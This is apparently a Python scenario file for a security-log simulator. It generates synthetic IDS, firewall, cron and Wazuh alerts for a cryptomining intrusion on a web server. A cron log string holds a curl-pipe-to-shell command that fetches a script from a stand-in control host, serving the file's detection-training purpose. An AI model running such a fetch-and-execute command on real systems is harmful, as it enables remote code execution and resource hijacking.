"""Mining: a web service exploited, a script fetched by cron, shares sent to a pool for hours."""

from __future__ import annotations

from simulator.formats import linux_auth, suricata
from simulator.scene import Attack, Scene


def play(scene: Scene) -> None:
    server = scene.asset("web", "server")
    host = server.hostname.lower()
    scene.step("web service exploited", "T1190", 10)
    more = suricata.http("POST", f"www.{scene.site.domain}", "/api/v1/jobs/submit", 200, agent="Go-http-client/1.1")
    scene.repeat("ids", 4, 40, lambda at: scene.sensor.alert(
        at, scene.out(), (server.address, 8080), "EXPLOIT Unauthenticated job submission, remote code execution",
        "Attempted Administrator Privilege Gain", severity=1, techniques=("T1190",), app="http", more=more))  # fmt: skip
    scene.write("fw", lambda at: scene.wall.threat(at, scene.out(), (scene.site.public, 8080), "Job API Remote Code Execution",
                                                   "Code-Execution", severity="critical", country=scene.country))  # fmt: skip
    scene.step("script by cron", "T1053.003", 60)
    scene.repeat("lin", 6, 900, lambda at: linux_auth.cron(
        at, host, "www-data", f"curl -fsSL http://{scene.control_name}/m.sh | sh", pid=scene.rng.randint(500, 32_000)))  # fmt: skip
    scene.write("hids", lambda at: scene.hosts.wazuh(
        at, server, 2833, 8, "Root's crontab entry changed.", ("syslog", "cron"), ("T1053.003", "Execution", "Cron"),
        linux=True))  # fmt: skip
    scene.step("shares to the pool", "T1496", 120)
    scene.repeat("ids", 26, 5400, lambda at: scene.sensor.alert(
        at, scene.of(server), (scene.control, 3333), "MALWARE Stratum mining pool sign-in",
        "Crypto Currency Mining Activity Detected", severity=1, techniques=("T1496",)))  # fmt: skip
    scene.write("fw", lambda at: scene.wall.threat(at, scene.of(server), (scene.control, 3333), "CoinMiner Stratum Protocol",
                                                   "Mining", severity="high", brief="BOTNET", victim="client"))  # fmt: skip
    scene.write("hids", lambda at: scene.hosts.wazuh(
        at, server, 100_330, 12, "Process with the command line of a coin miner (xmrig)", ("process", "coinminer"),
        ("T1496", "Impact", "Resource Hijacking"), linux=True))  # fmt: skip


ATTACK = Attack("mining", "挖矿木马", "Cryptocurrency mining", ("industrial", "platform"), ("ids", "lin"), 6600, play)
